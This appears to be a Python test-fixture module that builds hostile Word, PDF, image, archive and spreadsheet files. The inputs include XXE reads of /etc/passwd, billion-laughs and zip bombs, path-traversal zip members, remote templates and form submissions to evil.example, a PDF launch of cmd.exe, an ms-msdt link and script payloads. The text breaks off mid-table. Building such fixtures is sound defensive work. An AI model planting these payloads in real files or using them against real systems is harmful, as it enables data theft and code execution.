"""Files made to do harm, by the names that tests/cases/hostile uses: Word files, PDF, pictures, archives."""

from __future__ import annotations

import io
import os
import re
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
STRICT = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TITLE = "<w:p><w:r><w:t>云溪市民政局关于防汛工作的报告</w:t></w:r></w:p>"
END = "<w:p><w:r><w:t>云溪市民政局</w:t></w:r></w:p><w:p><w:r><w:t>2024年5月6日</w:t></w:r></w:p>"
SAYS = "<w:p><w:r><w:t>正文的话。</w:t></w:r></w:p>"
PHONE = "联系人13800138000"
MAIN = f"<w:document {W}><w:body>{TITLE}{SAYS}{END}</w:body></w:document>"


def zipped(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file of these members; what is a package of an office program has the list of its kinds as well."""
    stream = io.BytesIO()
    office = any(name.startswith(("_rels/", "word/", "xl/", "ppt/")) for name in parts)
    with zipfile.ZipFile(stream, "w", compression, compresslevel=1) as archive:
        for name, content in ({"[Content_Types].xml": "<Types/>"} | parts if office else parts).items():
            archive.writestr(name, content)
    return stream.getvalue()


def relations(*rows: tuple[str, str], outer: bool = False) -> str:
    """A part of relations; each row is (kind, target)."""
    mode = ' TargetMode="External"' if outer else ""
    words = "".join(
        f'<Relationship Id="r{place}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
        for place, (kind, target) in enumerate(rows)
    )
    return f'<Relationships xmlns="{PACKAGE}">{words}</Relationships>'


def parts_of(body: str, namespace: str = W, **others: str) -> dict[str, str | bytes]:
    """The parts of a Word file with this body; in ``others`` the root element is given its namespace here."""
    kinds = {name: re.sub(r"^<(w:\w+)", rf"<\1 {namespace}", words) for name, words in others.items()}
    return {
        "_rels/.rels": relations(("officeDocument", "word/document.xml")),
        "word/document.xml": f"<w:document {namespace}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": relations(*((name, f"{name}.xml") for name in kinds)),
        **{f"word/{name}.xml": words for name, words in kinds.items()},
    }


def word(body: str, **others: str) -> bytes:
    """A Word file. ``{words}`` in the body is short for a run of them; title, sender and date are added."""
    filled = re.sub(r"\{([^{}]*)\}", r'<w:r><w:t xml:space="preserve">\1</w:t></w:r>', TITLE + body + END)
    filled = re.sub(r"(<w:sectPr>.*?</w:sectPr>)(.*)", r"\2\1", filled, flags=re.DOTALL)
    others = {k: re.sub(r"\{([^{}]*)\}", r"<w:r><w:t>\1</w:t></w:r>", v) for k, v in others.items()}
    return zipped(parts_of(filled, **others))


def _changed(**parts: str | bytes) -> bytes:
    whole = parts_of(TITLE + SAYS + END)
    return zipped({**whole, **{name.replace("__", "/"): words for name, words in parts.items()}})


def _document(before: str, body: str = SAYS) -> bytes:
    whole = parts_of("")
    whole["word/document.xml"] = f"{before}<w:document {W}><w:body>{TITLE}{body}{END}</w:body></w:document>"
    return zipped(whole)


def _marked_encrypted() -> bytes:
    data = bytearray(word(SAYS))
    for start, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(start)
        while place >= 0:
            data[place + flags] |= 1
            place = data.find(start, place + 4)
    return bytes(data)


def _lying() -> bytes:
    """The directory says that the text is short; unpacked it is not."""
    data = bytearray(zipped({**parts_of(""), "word/document.xml": b" " * 40_000_000}))
    place = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/document.xml"))
    data[place + 24 : place + 28] = struct.pack("<I", 1000)
    return bytes(data)


def _twice() -> bytes:
    stream = io.BytesIO(word(SAYS))
    with zipfile.ZipFile(stream, "a") as archive:
        info = zipfile.ZipInfo("word/document.xml")
        archive.writestr(info, f"<w:document {W}><w:body>{TITLE}{END}</w:body></w:document>")
    return stream.getvalue()


def _flipped() -> bytes:
    return bytes(byte ^ (0x55 if 60 < place < 75 else 0) for place, byte in enumerate(word(SAYS)))


LAUGHS = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(11))
BOMB = f'<!DOCTYPE x [<!ENTITY e0 "哈">{LAUGHS}]>'
OUTER = {"officeDocument": "https://evil.example/x.xml"}


def _linked() -> bytes:
    """The main part is marked as a symbolic link."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        info = zipfile.ZipInfo("word/document.xml")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
        archive.writestr("_rels/.rels", relations(("officeDocument", "word/document.xml")))
    return stream.getvalue()


def _whole(document: str | bytes, **others: str | bytes) -> bytes:
    """A Word file with this as its main part; ``others`` by name, __ for a slash."""
    parts = {**parts_of(""), "word/document.xml": document}
    return zipped({**parts, **{name.replace("__", "/"): words for name, words in others.items()}})


def workbook(rows: list[list[str | int]], hidden: list[list[str | int]] | None = None, **others: str) -> bytes:
    """A workbook with one sheet, and perhaps a hidden one."""

    def sheet(cells: list[list[str | int]]) -> str:
        made = "".join(
            "<row>"
            + "".join(
                f"<c><v>{cell}</v></c>" if isinstance(cell, int) else f'<c t="inlineStr"><is><t>{cell}</t></is></c>'
                for cell in row
            )
            + "</row>"
            for row in cells
        )
        return f"<worksheet><sheetData>{made}</sheetData></worksheet>"

    sheets = {"xl/worksheets/sheet1.xml": sheet(rows)}
    if hidden:
        sheets["xl/worksheets/sheet2.xml"] = sheet(hidden)
    return zipped({"xl/workbook.xml": "<workbook/>", **sheets, **others})


def pdf(
    content: bytes = b"BT ET",
    catalog: bytes = b"",
    trailer: bytes = b"",
    pages: bytes = b"/Kids [4 0 R]",
    packed: bool = False,
    font: bytes = b"",
    more: tuple[bytes, ...] = (),
) -> bytes:
    """A PDF of one page with a table of its objects; those in ``more`` are numbered from 6."""
    filters = b"/Filter /FlateDecode " if packed else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Count 1 " + pages + b" >>",
        b"<< " + filters + b"/Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 3 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica " + font + b" >>",
        *more,
    ]
    made, places = b"%PDF-1.4\n", []
    for number, words in enumerate(objects, 1):
        places.append(len(made))
        made += str(number).encode() + b" 0 obj\n" + words + b"\nendobj\n"
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = str(len(objects) + 1).encode()
    head = b"xref\n0 " + size + b"\n0000000000 65535 f \n" + rows
    end = head + b"trailer\n<< /Size " + size + b" /Root 1 0 R " + trailer + b" >>\n"
    return made + end + b"startxref\n" + str(len(made)).encode() + b"\n%%EOF\n"


# As most programs write words: codes of the font, and a table that says what they mean; here A to J are 0 to 9.
TABLE = (
    b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange "
    b"1 beginbfrange <41> <4A> <0030> endbfrange endcmap end"
)
TABLE_OBJECT = b"<< /Length " + str(len(TABLE)).encode() + b" >>\nstream\n" + TABLE + b"\nendstream"


def mapped_pdf(words: bytes) -> bytes:
    """A PDF whose words only its font's table tells."""
    return pdf(b"BT /F1 12 Tf 50 700 Td (" + words + b") Tj ET", font=b"/ToUnicode 6 0 R", more=(TABLE_OBJECT,))


def png(width: int = 1, height: int = 1, chunks: list[tuple[bytes, bytes]] | None = None) -> bytes:
    """A PNG; only one of one pixel is whole."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    more = b"".join(chunk(*pair) for pair in chunks or [])
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def jpeg(exif: bool = False, comment: bytes = b"") -> bytes:
    """A JPEG as Pillow writes it, with a place and a turn in its Exif when asked for."""
    from PIL import Image  # noqa: PLC0415

    picture = Image.new("RGB", (8, 4), (200, 30, 30))
    stream = io.BytesIO()
    facts = Image.Exif()
    if exif:
        facts[0x0112] = 6
        facts[0x010F] = "SecretCamera"
        facts.get_ifd(0x8825).update({1: "N", 2: (31.0, 12.0, 5.0), 3: "E", 4: (121.0, 28.0, 7.0)})
    picture.save(stream, "JPEG", exif=facts.tobytes() if exif else b"", comment=comment or None)
    return stream.getvalue()


def drawn(kind: str, **how: Any) -> bytes:
    """A picture as Pillow writes it, with enough in it to be cut in the middle."""
    from PIL import Image  # noqa: PLC0415

    stream = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").save(stream, kind, **how)
    return stream.getvalue()


def two_pictures() -> bytes:
    """What telephones write: a JPEG with a second one behind it."""
    from PIL import Image  # noqa: PLC0415

    return drawn("MPO", save_all=True, append_images=[Image.new("RGB", (9, 9))])


def cut(data: bytes) -> bytes:
    """The first half, as a copy that was broken off leaves it."""
    return data[: len(data) // 2]


GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"


PHONE = b"13800138000"
RESIDENT = "110101199003077715"
XMP = b"<x:xmpmeta><dc:title>13800138000</dc:title></x>"


def drawn_pdf(pieces: list[tuple[float, str]]) -> bytes:
    """A PDF with words at these places of one line."""
    drawn = b" ".join(b"BT /F1 12 Tf 1 0 0 1 %.2f 5 Tm (%s) Tj ET" % (left, words.encode()) for left, words in pieces)
    return pdf(drawn).replace(b"[0 0 9 9]", b"[0 0 595 842]")


def turned() -> bytes:
    """Exif that says which way up, and with what it was taken."""
    from PIL import Image  # noqa: PLC0415

    facts = Image.Exif()
    facts[0x0112], facts[0x010F] = 6, "SecretCamera"
    return facts.tobytes()


def drawn_size(kind: str, width: int, height: int) -> bytes:
    """A picture of one colour."""
    from PIL import Image  # noqa: PLC0415

    stream = io.BytesIO()
    Image.new("RGB", (width, height)).save(stream, kind, lossless=True, method=0, quality=0)
    return stream.getvalue()


def related_word(kind: str, target: str, outer: bool = False, **more: str | bytes) -> bytes:
    """A Word file with one more relation, and further parts."""
    return zipped(
        {**parts_of(TITLE + SAYS + END), "word/_rels/document.xml.rels": relations((kind, target), outer=outer), **more}
    )


def _changed_body(inside: str) -> bytes:
    """A Word file with this in a paragraph of its own."""
    return word(SAYS + f"<w:p><w:r>{inside}</w:r></w:p>")


def field_word(code: str) -> bytes:
    """A Word file with a field."""
    return _changed_body(f"<w:instrText>{code}</w:instrText>")


def formula_book(formula: str) -> bytes:
    """A workbook with a formula."""
    words = formula.replace("&", "&amp;").replace('"', "&quot;")
    rows = f"<sheetData><row><c><f>{words}</f></c></row></sheetData>"
    return workbook([["甲"]], **{"xl/worksheets/sheet3.xml": f"<worksheet>{rows}</worksheet>"})


def _zip_with_a_link() -> bytes:
    info = zipfile.ZipInfo("a.txt")
    info.external_attr = 0o120777 << 16
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return stream.getvalue()


MAKERS: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "plain-text": "云溪市民政局的报告\n正文的话。\n".encode,
    "cut-off": lambda: zipped({**parts_of(""), "word/document.xml": f"<w:document {W}><w:body><w:p>"}),
    "zip-cut-off": lambda: word(SAYS)[:-40],
    "bytes-flipped": _flipped,
    "ole": lambda: OLE + bytes(2000),
    "ole-encrypted": lambda: OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500),
    "zip-encrypted": _marked_encrypted,
    "billion-laughs": lambda: _document(BOMB, "<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>"),
    "long-entity": lambda: _document(
        f'<!DOCTYPE x [<!ENTITY a "{"长" * 50000}">]>', f"<w:p><w:r><w:t>{'&a;' * 5000}</w:t></w:r></w:p>"
    ),
    "outside-entity": lambda: _document('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "<w:p>&a;</w:p>"),
    "outside-dtd": lambda: _document('<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">'),
    "xinclude": lambda: _document(
        "", SAYS + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
    "stylesheet": lambda: _document('<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>'),
    "bomb-text": lambda: zipped({**parts_of(""), "word/document.xml": b" " * 30_000_000}),
    "bomb-picture": lambda: _changed(word__media__bmp=bytes(210_000_000)),
    "lying-size": _lying,
    "nested-zip": lambda: _changed(word__embeddings__zip=zipped({"a.zip": zipped({"b.zip": bytes(100_000)})})),
    "many-parts": lambda: zipped({f"{place}.xml": "" for place in range(5_001)}, zipfile.ZIP_STORED),
    "overlap": lambda: word(SAYS) + word(SAYS)[200:],
    "twice": _twice,
    "climbing-member": lambda: zipped(
        {**parts_of(TITLE + SAYS + END), "../../../tmp/gongbao-evil.txt": "x", "/etc/gongbao-evil": "x"}
    ),
    "main-outside": lambda: zipped({"_rels/.rels": relations(("officeDocument", "../../etc/passwd"))}),
    "main-external": lambda: zipped(
        {**parts_of(TITLE + SAYS + END), "_rels/.rels": relations(*OUTER.items(), outer=True)}
    ),
    "remote-template": lambda: zipped(
        {
            **parts_of(TITLE + SAYS + END),
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/x.dotm"), outer=True),
        }
    ),
    "remote-picture": lambda: zipped(
        {
            **parts_of(
                TITLE + SAYS + "<w:p><w:r><w:drawing><a:blip r:link='r0' xmlns:a='urn:a' xmlns:r='urn:r'/>"
                "</w:drawing></w:r></w:p>" + END
            ),
            "word/_rels/document.xml.rels": relations(("image", "https://evil.example/spy.png"), outer=True),
        }
    ),
    "macros": lambda: zipped({**parts_of(TITLE + SAYS + END), "word/vbaProject.bin": OLE + bytes(100)}),
    "workbook": lambda: workbook([["姓名"]]),
    "presentation": lambda: zipped({"ppt/presentation.xml": "<x/>"}),
    "opendocument": lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
    "plain-zip": lambda: zipped({"a.txt": "正文的话。"}),
    "main-part-behind-a-slash": lambda: _whole(
        MAIN, **{"_rels__.rels": relations(("officeDocument", "/word/document.xml"))}
    ),
    "without-relations": lambda: zipped({"word/document.xml": MAIN}),
    "behind-other-bytes": lambda: b"PK\x03\x04" + bytes(1000) + _whole(MAIN),
    "before-other-bytes": lambda: _whole(MAIN) + bytes(1000),
    "packed-in-another-way": lambda: zipped({**parts_of(TITLE + SAYS + END)}, zipfile.ZIP_BZIP2),
    "in-GB18030": lambda: _whole(f'<?xml version="1.0" encoding="GB18030"?>{MAIN}'.encode("gb18030")),
    "checksum-wrong": lambda: zipped({**parts_of(SAYS)}, zipfile.ZIP_STORED).replace("正文".encode(), "改文".encode()),
    "relations-cut-off": lambda: _whole(MAIN, **{"_rels__.rels": "<Relationships"}),
    "relations-with-an-outside-entity": lambda: _whole(
        MAIN,
        **{"_rels__.rels": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><Relationships>&a;</Relationships>'},
    ),
    "styles-cut-off": lambda: zipped({**parts_of(SAYS, styles="<w:styles/>"), "word/styles.xml": "<w:styles"}),
    "main-part-that-is-a-link": _linked,
    "encoding-that-lies": lambda: _whole(f'<?xml version="1.0" encoding="UTF-16"?>{MAIN}'),
    "encoding-of-nowhere": lambda: _whole(f'<?xml version="1.0" encoding="x-evil"?>{MAIN}'),
    "parameter-entities": lambda: _whole(f"<!DOCTYPE x [<!ENTITY % a \"<!ENTITY b 'c'>\"> %a;]>{MAIN}"),
    "prefix-without-a-namespace": lambda: _whole(MAIN.replace(W, "")),
    "half-a-pair-in-the-words": lambda: _whole(MAIN.replace("正文", "&#xD800;")),
    "page-as-main-part": lambda: _whole("<html><body><p>正文的话。</p></body></html>"),
    "main-part-empty": lambda: _whole(""),
    "book-with-the-ending-docx": lambda: zipped({"mimetype": "application/epub+zip", "META-INF/container.xml": "<x/>"}),
    "program-of-a-telephone": lambda: zipped({"AndroidManifest.xml": "x", "classes.dex": "x"}),
    "Word-2003-XML": lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><wordDocument/>',
    "package-in-one-XML-file": lambda: b'<?xml version="1.0"?><package><part>x</part></package>',
    "pdf": pdf,
    "web-page": (
        "<!DOCTYPE html><html><head><title>云溪市民政局关于防汛的报告</title><script>alert(1)</script></head>"
        "<body onload=alert(1)><h1>云溪市民政局关于防汛的报告</h1><p onclick=alert(1)>正文的话，清淤河道三处。</p>"
        "<iframe src='javascript:alert(1)'></iframe><p>云溪市民政局</p><p>2024年5月6日</p></body></html>"
    ).encode,
    "web-page-deep": lambda: b"<html><body>" + b"<div>" * 10_000 + "正文的话。".encode() + b"</body></html>",
    "web-page-comments": lambda: b"<html><body><p>" + "正文的话。".encode() + b"</p>" + b"<!--" * 200_000,
    "web-page-entities": f"<!DOCTYPE html [<!ENTITY a '哈'>{LAUGHS}]><html><p>正文的话。&e11;</p></html>".encode,
    "deep": lambda: _document("", "<w:ins>" * 3000 + SAYS + "</w:ins>" * 3000),
    "empty-paragraphs": lambda: _document("", "<w:p/>" * 1_000_000 + SAYS),
    "no-words": lambda: zipped(parts_of("<w:p/>")),
    "strict": lambda: zipped(parts_of(TITLE + SAYS + END, STRICT)),
    "utf-16": lambda: zipped(
        {
            **parts_of(""),
            "word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}><w:body>{TITLE}{SAYS}{END}'
            "</w:body></w:document>".encode("utf-16"),
        }
    ),
    "rtf": lambda: b"{\\rtf1\\ansi abc}",
    "png": png,
    "program": lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 20,
    "large": lambda: "转移群众。".encode() * 1_400_000,
    "lines": lambda: "字\n".encode() * 200_001,
    "figures": lambda: "云溪市民政局关于防汛的报告\n\n".encode() + "清淤12处，\n".encode() * 38_001,
    "long": lambda: "字".encode() * 1_500_001,
    "pdf-encrypted": lambda: pdf(trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>"),
    "pdf-broken": lambda: pdf()[:200],
    "pdf-bomb": lambda: pdf(content=zlib.compress(bytes(60_000_000), 1), packed=True),
    # attachments
    "pdf-javascript": lambda: pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "pdf-hidden-javascript": lambda: pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "pdf-names-javascript": lambda: pdf(
        catalog=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"
    ),
    "pdf-launch": lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "pdf-embedded": lambda: pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >>"),
    "pdf-form": lambda: pdf(catalog=b"/AcroForm << /XFA (x) >>"),
    "pdf-submit": lambda: pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
    "pdf-phone": lambda: pdf(content=b"BT /F1 12 Tf 50 700 Td (Tel 13800138000) Tj ET"),
    "pdf-id": lambda: pdf(content=b"BT /F1 12 Tf 50 700 Td (ID 110101199003077715) Tj ET"),
    "pdf-words": lambda: pdf(content=b"BT /F1 12 Tf 50 700 Td (Report of 2024: 18399 visits) Tj ET"),
    "pdf-title-phone": lambda: pdf(trailer=b"/Info << /Title (Li Si 13800138000) >>"),
    "pdf-note-phone": lambda: pdf(
        b"BT /F1 12 Tf (a) Tj ET", more=(b"<< /Subtype /Text /Contents (Tel 13800138000) >>",)
    ),
    "pdf-mail-phone": lambda: pdf(more=(b"<< /S /URI /URI (mailto:13800138000@a.example) >>",)),
    "pdf-script-address": lambda: pdf(more=(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>",)),
    "pdf-other-machine": lambda: pdf(more=(rb"<< /S /GoToR /F (\\\\evil.example\\a.pdf) /D [0 /Fit] >>",)),
    "pdf-web-address": lambda: pdf(b"BT /F1 12 Tf (a) Tj ET", more=(b"<< /S /URI /URI (https://a.example/) >>",)),
    "zip-name-phone": lambda: zipped({"名单_13800138000.csv": "甲\n"}),
    "zip-link": _zip_with_a_link,
    "program-named-text": lambda: b"\x7fELF\x02\x01\x01" + b"abc\n" * 20,
    "pdf-open-address": lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (https://a.example/) >>"),
    "pdf-other-machine-named": lambda: pdf(
        b"BT /F1 12 Tf (a) Tj ET", more=(rb"<< /S /GoToR /F << /UF (\\\\evil.example\\a.pdf) >> /D [0 /Fit] >>",)
    ),
    "pdf-xmp-phone": lambda: pdf(
        b"BT /F1 12 Tf (a) Tj ET",
        more=(b"<< /Type /Metadata /Subtype /XML /Length 46 >>\nstream\n" + XMP + b"\nendstream",),
    ),
    "pdf-digits-apart": lambda: pdf(
        b"BT /F1 12 Tf "
        + b" ".join(b"1 0 0 1 %d 5 Tm (%c) Tj" % (8 * at, digit) for at, digit in enumerate(PHONE))
        + b" ET"
    ),
    "pdf-digits-side-by-side": lambda: drawn_pdf([(50 + 6.67 * at, "13800138000"[at]) for at in range(11)]),
    "pdf-number-in-halves": lambda: drawn_pdf([(50, "13800"), (50 + 5 * 6.67, "138000")]),
    "pdf-figures-in-cells": lambda: drawn_pdf([(50, "13800"), (150, "138000"), (250, "1380"), (350, "0138")]),
    "zip-help-file": lambda: zipped({"a.chm": "x"}),
    "zip-java-program": lambda: zipped({"META-INF/MANIFEST.MF": "Main-Class: A\n", "A.class": "x"}),
    "zip-program-with-a-blank": lambda: zipped({"a.exe ": "x"}),
    "zip-program-with-a-point": lambda: zipped({"a.exe.": "x"}),
    "word-video-elsewhere": lambda: related_word("video", "http://evil.example/a.mp4", True),
    "word-styles-elsewhere": lambda: related_word("styles", "http://evil.example/s.xml", True),
    "word-link-program": lambda: related_word("hyperlink", "ms-msdt:/id PCW", True),
    "word-link-machine": lambda: related_word("hyperlink", r"\\evil.example\share", True),
    "word-link-parted-script": lambda: related_word("hyperlink", "java&#9;script:alert(1)", True),
    "word-link-web": lambda: related_word("hyperlink", "https://a.example/x?y=1#z", True),
    "word-link-file-beside": lambda: related_word("hyperlink", "附件1.docx", True),
    "word-link-own-disk": lambda: related_word("hyperlink", "file:///D:/工作/a.docx", True),
    "word-field-database": lambda: field_word(" DATABASE \\d x \\c DSN=y "),
    "word-field-link-machine": lambda: field_word(r' LINK Excel.Sheet.8 "\\evil\x.xls" '),
    "word-field-script": lambda: field_word(' HYPERLINK "javascript:alert(1)" '),
    "word-field-equation": lambda: field_word(" EMBED Equation.3 "),
    "word-field-own-picture": lambda: field_word(r' INCLUDEPICTURE "D:\\图\\a.png" \* MERGEFORMAT '),
    "word-shut-in-file": lambda: related_word(
        "oleObject",
        "embeddings/oleObject1.bin",
        **{"word/embeddings/oleObject1.bin": OLE + "Ole10Native".encode("utf-16-le")},
    ),
    "word-shut-in-equation": lambda: related_word(
        "oleObject",
        "embeddings/oleObject1.bin",
        **{"word/embeddings/oleObject1.bin": OLE + "Equation Native".encode("utf-16-le")},
    ),
    "word-add-in": lambda: related_word("image", "a.png", **{"word/webextensions/taskpanes.xml": "<x/>"}),
    "word-picture-elsewhere": lambda: _changed_body(
        '<w:pict xmlns:v="urn:v"><v:imagedata src="http://evil.example/x.png"/></w:pict>'
    ),
    "word-without-kinds": lambda: word(SAYS).replace(b"[Content_Types].xml", b"[Content_Tipes].xml"),
    "word-climbing-part": lambda: related_word("image", "a.png", **{"../../evil.txt": "x"}),
    "word-twice-by-case": lambda: related_word("image", "a.png", **{"word/Document.xml": "<x/>"}),
    "word-name-phone": lambda: _changed_body('<w:docPr name="13800138000.jpg"/>'),
    "word-bookmark-phone": lambda: _changed_body('<w:bookmarkStart w:name="周某13800138000"/>'),
    "word-author-phone": lambda: _changed_body('<w:ins w:author="王13800138000"><w:r><w:t>字</w:t></w:r></w:ins>'),
    "word-comment-in-XML-phone": lambda: _changed_body("<!-- 13800138000 -->"),
    "word-chart-phone": lambda: related_word(
        "chart", "c.xml", **{"word/charts/chart1.xml": "<c><v>13800138000</v></c>"}
    ),
    "word-chart-amount": lambda: related_word(
        "chart", "c.xml", **{"word/charts/chart1.xml": "<c><numCache><v>13812345678</v></numCache></c>"}
    ),
    "word-loose-text-phone": lambda: related_word("image", "a.png", **{"word/notes.txt": "周某 13800138000"}),
    "word-cells-of-digits": lambda: word(
        SAYS
        + "<w:tbl><w:tr>"
        + "".join(f"<w:tc><w:p><w:r><w:t>{digit}</w:t></w:r></w:p></w:tc>" for digit in RESIDENT)
        + "</w:tr></w:tbl>"
    ),
    "word-signs-phone": lambda: word(
        SAYS
        + "<w:p><w:r>"
        + "".join(f'<w:sym w:font="Wingdings" w:char="F03{digit:c}"/>' for digit in PHONE)
        + "</w:r></w:p>"
    ),
    "workbook-amounts-alone": lambda: workbook([["金额（元）", "数量"], [13812345678, 12], [13912345678]]),
    "workbook-link-script": lambda: formula_book('HYPERLINK("javascript:alert(1)","x")'),
    "workbook-link-web": lambda: formula_book('HYPERLINK("https://a.example/","x")'),
    "workbook-picture-elsewhere": lambda: formula_book('IMAGE("http://evil.example/x.png")'),
    "workbook-other-book": lambda: formula_book("'http://evil.example/[a.xlsx]S'!A1"),
    "workbook-web-query": lambda: workbook(
        [["甲"]],
        **{
            "xl/connections.xml": '<c><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example/"/></connection></c>'
        },
    ),
    "png-turned": lambda: drawn("PNG", exif=turned()),
    "webp-turned": lambda: drawn("WEBP", exif=turned()),
    "jpeg-cut-without-end": lambda: drawn("JPEG")[:-40],
    "jpeg-progressive-cut-without-end": lambda: drawn("JPEG", progressive=True)[:-40],
    "webp-too-large": lambda: drawn_size("WEBP", 7500, 7400),
    "pdf-mapped": lambda: mapped_pdf(b"BIDJJ"),
    "pdf-mapped-phone": lambda: mapped_pdf(b"BDIAABDIAAA"),
    "pdf-cut-off": lambda: pdf()[:-30],
    "pdf-saved-twice-cut-off": lambda: pdf() + b"6 0 obj\n<< /Type /Annot >>\nendobj\n7 0 obj\n<<",
    "pdf-no-page": lambda: pdf(pages=b"/Kids []").replace(b"/Count 1", b"/Count 0"),
    "pdf-bytes-behind": lambda: pdf(b"BT /F1 12 Tf (18399 visits) Tj ET") + b"\r\n" + bytes(3000),
    "pdf-wrong-table": lambda: b"%PDF-1.4\n%moved" + pdf(b"BT /F1 12 Tf (18399 visits) Tj ET")[8:],
    "pdf-newer-encryption": lambda: pdf(
        trailer=b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <"
        + b"00" * 48
        + b"> /U <"
        + b"00" * 48
        + b"> /OE <"
        + b"00" * 32
        + b"> /UE <"
        + b"00" * 32
        + b"> /Perms <"
        + b"00" * 16
        + b"> >> /ID [<00> <00>]"
    ),
    "pdf-author": lambda: pdf(trailer=b"/Info << /Author (Zhang San) >>"),
    "pdf-stub": lambda: b"%PDF-1.4\n",
    "pdf-loop": lambda: pdf(pages=b"/Kids [2 0 R]"),
    "not-a-pdf": lambda: b"<script>alert(1)</script>",
    "jpeg": jpeg,
    "jpeg-gps": lambda: jpeg(exif=True),
    "jpeg-comment": lambda: jpeg(comment=b"<script>alert(1)</script>"),
    "jpeg-and-zip": lambda: jpeg() + zipped({"evil.js": "alert(1)"}),
    "png-text": lambda: png(chunks=[(b"tEXt", b"Author\0Zhang San")]),
    "png-bomb": lambda: png(width=100_000, height=100_000),
    "png-stub": lambda: b"\x89PNG\r\n\x1a\n",
    "gif": lambda: GIF,
    "gif-script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "jpeg-cut-off": lambda: cut(drawn("JPEG")),
    "jpeg-without-end": lambda: drawn("JPEG")[:-2],
    "jpeg-filled-with-zeros": lambda: cut(drawn("JPEG")) + bytes(2000),
    "jpeg-progressive-cut-off": lambda: cut(drawn("JPEG", progressive=True)),
    "jpeg-progressive": lambda: drawn("JPEG", progressive=True),
    "jpeg-bytes-behind": lambda: drawn("JPEG") + bytes(5000),
    "jpeg-two": two_pictures,
    "png-cut-off": lambda: cut(drawn("PNG")),
    "png-bytes-behind": lambda: drawn("PNG") + bytes(5000),
    "gif-cut-off": lambda: cut(drawn("GIF")),
    "gif-without-end": lambda: drawn("GIF")[:-1],
    "webp-cut-off": lambda: cut(drawn("WEBP")),
    "webp": lambda: drawn("WEBP"),
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "html": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
    "text": "姓名,部门\n张某某,民政局\n".encode,
    "text-phone": f"姓名,电话\n张某某,{PHONE}\n".encode,
    "text-gbk-phone": lambda: f"姓名,电话\n张某某,{PHONE}\n".encode("gb18030"),
    "text-binary": lambda: bytes(range(256)),
    "workbook-phone": lambda: workbook([["姓名", "电话"], ["张某某", "13800138000"]]),
    "workbook-number": lambda: workbook([["电话"], [13800138000]]),
    "workbook-hidden": lambda: workbook([["公开"]], hidden=[["110101199003077715"]]),
    "workbook-macro": lambda: workbook([["甲"]], **{"xl/vbaProject.bin": "x"}),
    "workbook-outer": lambda: workbook(
        [["甲"]],
        **{
